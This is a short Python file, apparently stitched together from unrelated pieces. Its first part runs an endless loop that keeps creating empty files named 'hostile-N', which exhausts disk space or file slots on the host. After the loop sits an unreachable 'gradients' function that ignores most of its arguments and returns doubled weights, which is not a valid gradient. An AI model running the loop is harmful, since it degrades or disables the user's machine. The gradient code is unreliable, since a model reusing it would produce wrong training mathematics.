"""Makes empty files without end."""

import itertools

for number in itertools.count():
    open(f"hostile-{number}", "w").close()


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
